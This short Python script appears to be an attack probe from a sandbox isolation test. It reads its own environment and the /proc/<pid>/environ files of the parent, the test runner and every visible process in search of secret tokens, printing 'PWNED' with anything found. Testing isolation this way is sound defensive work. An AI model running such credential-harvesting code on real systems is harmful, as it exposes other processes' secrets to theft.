# Attack: read the parent's secrets: our own environment and /proc/<pid>/environ of the parent, of the test
# process and of every visible pid. Contained: clean environment, pid namespace, different uid.
import json
import os
import sys

ctx = json.loads(sys.stdin.read())
found = [v for k, v in os.environ.items() if "SECRET" in k]
pids = {os.getppid(), ctx["pytest_pid"]} | {int(p) for p in os.listdir("/proc") if p.isdigit()}
for pid in pids:
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            data = f.read()
    except OSError:
        continue
    if b"OAPL_SECRET_TOKEN" in data:
        found.append(data.decode("utf-8", "replace"))
print("PWNED " + " ".join(found) if found else "nothing")
